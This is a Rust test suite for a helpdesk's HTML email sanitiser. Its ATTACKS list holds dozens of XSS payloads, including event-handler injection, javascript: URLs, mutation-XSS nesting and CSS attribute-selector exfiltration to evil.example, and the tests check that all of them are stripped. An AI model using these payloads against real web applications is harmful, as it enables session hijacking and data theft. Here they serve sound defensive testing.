//! Whoever writes to the desk must not act in the name of the operator who reads.

use std::collections::HashMap;

use mail::{SanitizeOptions, Sanitized, sanitize};

fn clean(html: &str) -> String {
    sanitize(html, &SanitizeOptions::default()).html
}

/// Own renderings of the classes of attack in the public advisories of other helpdesks.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\"\nonerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" java\tscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"vbscript:x\">x</a>",
    "<a href=\"http\u{a0}javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
    "<form action=\"https://evil.example\"><input name=p><button formaction=\"javascript:alert(1)\">x</button></form>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<style>@import url(https://evil.example/x.css); input[value^=a]{background:url(//evil.example/a)}</style>",
    "<p style=\"background:url(https://evil.example/x)\">x</p>",
    "<div style=\"position:fixed;top:0\" class=x id=y name=z>x</div>",
    "<table background=\"https://evil.example/x\"><tr><td background=x>x</td></tr></table>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
    "<img src=\"data:text/html,x\">",
    "<img src=\"javascript:alert(1)\">",
    "<img src=\"https://evil.example/pixel.gif\" srcset=\"https://evil.example/2 2x\">",
    "<img src=\"//evil.example/pixel.gif\">",
    "<a href=\"https://x.example\" target=_self rel=opener onclick=alert(1)>x</a>",
    "<b title='\"><img src=x onerror=alert(1)>'>x</b>",
    "<template><script>alert(1)</script></template>",
    "<p title=\"&quot;><script>alert(1)</script>\">x</p>",
];

#[test]
fn attacks_come_out_harmless() {
    for attack in ATTACKS {
        for html in [
            (*attack).to_owned(),
            format!("<div>{attack}"),
            format!("{attack}</div><p>dopo"),
        ] {
            let once = clean(&html);
            let tags = tags_of(&once);
            for bad in [
                "<script",
                "<svg",
                "<math",
                "<style",
                "<iframe",
                "<object",
                "<embed",
                "<form",
                "<input",
                "<button",
                "<base",
                "<meta",
                "<link",
                "<video",
                "<source",
                "<template",
                "<textarea",
                "<noscript",
            ] {
                assert!(!tags.contains(bad), "{html}\n→ {once}");
            }
            for bad in [
                " on",
                "javascript:",
                "vbscript:",
                "evil.example",
                "style=",
                "class=",
                "id=",
                "svg+xml",
                "data:",
                "_self",
            ] {
                assert!(!tags.contains(bad), "{html}\n→ {once}");
            }
            assert!(!tags.contains("rel=\"opener\""), "{html}\n→ {once}");
            assert_eq!(in_order(&clean(&once)), in_order(&once), "what is clean stays as it is");
        }
    }
}

/// The attributes that the sanitiser adds, in one order: adding them to a link that has them turns them round.
fn in_order(html: &str) -> String {
    html.replace(
        r#"target="_blank" rel="noopener noreferrer nofollow""#,
        r#"rel="noopener noreferrer nofollow" target="_blank""#,
    )
}

/// The tags of a page without the contents of quoted `title` attributes, which are text.
fn tags_of(html: &str) -> String {
    let mut tags = String::new();
    for piece in html.split('<').skip(1) {
        let tag = piece.split('>').next().unwrap_or_default();
        let tag = match tag.split_once("title=\"") {
            Some((before, rest)) => {
                format!("{before}{}", rest.split_once('"').map_or("", |(_, after)| after))
            }
            None => tag.to_owned(),
        };
        tags.push('<');
        tags.push_str(&tag.to_lowercase());
    }
    tags
}

#[test]
fn readable_mail_survives() {
    for (html, expected) in [
        ("<p>uno <b>due</b></p>", "<p>uno <b>due</b></p>"),
        ("<h1>a</h1><ul><li>b</li></ul>", "<h1>a</h1><ul><li>b</li></ul>"),
        ("a &lt;b&gt; &amp; \u{e8}", "a &lt;b&gt; &amp; \u{e8}"),
        ("<font color=\"red\">x</font>", "<font color=\"red\">x</font>"),
        ("<o:p>x</o:p><![if !mso]>y<![endif]>", "xy"),
        (
            "<img src=\"data:image/png;base64,AAAA\" alt=\"x\">",
            "<img src=\"data:image/png;base64,AAAA\" alt=\"x\">",
        ),
    ] {
        assert_eq!(clean(html), expected, "{html}");
    }
    let table = clean("<table width=100%><tr><td colspan=2 bgcolor='#fff'>a<td>b</table>");
    assert!(
        table.contains("<td colspan=\"2\" bgcolor=\"#fff\">a</td>")
            || table.contains("<td bgcolor=\"#fff\" colspan=\"2\">a</td>")
    );
    let link = clean("<a href=\"https://x.example/?a=1&amp;b=2\">x</a>");
    for part in [
        "href=\"https://x.example/?a=1&amp;b=2\"",
        "target=\"_blank\"",
        "rel=\"noopener noreferrer nofollow\"",
    ] {
        assert!(link.contains(part), "{link}");
    }
    assert!(clean("<a href=\"mailto:a@b.it\">x</a>").contains("mailto:a@b.it"));
    assert!(
        !clean("<a href=\"/admin/delete\">x</a>").contains("href"),
        "no link into the desk itself"
    );
}

#[test]
fn images() {
    let html = "<img src=\"cid:foto@x\"><img src=\"cid:altra\"><img src=\"http://a.example/1\"><img src=//b.example/2><img src=locale.png>";
    let mut options = SanitizeOptions {
        remote_images: false,
        inline_images: HashMap::from([("foto@x".to_owned(), "/allegati/12".to_owned())]),
    };
    let blocked = sanitize(html, &options);
    assert_eq!(
        blocked,
        Sanitized {
            html: "<img src=\"/allegati/12\"><img><img><img><img>".to_owned(),
            blocked_images: 2
        }
    );
    options.remote_images = true;
    let shown = sanitize(html, &options);
    assert_eq!(shown.blocked_images, 0);
    assert!(
        shown.html.contains("src=\"http://a.example/1\"") && shown.html.contains("src=\"https://b.example/2\""),
        "{}",
        shown.html
    );
    assert!(!shown.html.contains("locale.png"));
}

#[test]
fn too_large_or_too_deep_becomes_text() {
    let deep = format!("{}<b>testo &amp; basta</b>", "<div>".repeat(1_000));
    assert_eq!(clean(&deep), "<pre>testo &amp; basta</pre>");
    let large = format!("<p>inizio</p>{}", "<i>x</i>".repeat(300_000));
    let text = clean(&large);
    assert!(text.starts_with("<pre>inizio\n\nxxx") && text.ends_with("</pre>") && !text.contains("<i>"));
}

#[test]
fn an_address_without_scheme_is_completed_only_where_it_names_a_host() {
    let options = SanitizeOptions {
        remote_images: true,
        ..SanitizeOptions::default()
    };
    let shown = |src: &str| sanitize(&format!("<img src=\"{src}\" alt=x>"), &options).html;
    assert!(shown("//c.example/1.png").contains("src=\"https://c.example/1.png\""));
    for none in [
        "//c.example\u{2}\u{fffd}/1.png",
        "///1.png",
        "//",
        "//a b/1.png",
        "/1.png",
        "//c.A[x]]/1.png",
    ] {
        assert!(!shown(none).contains("src="), "{none:?}: {}", shown(none));
    }
}
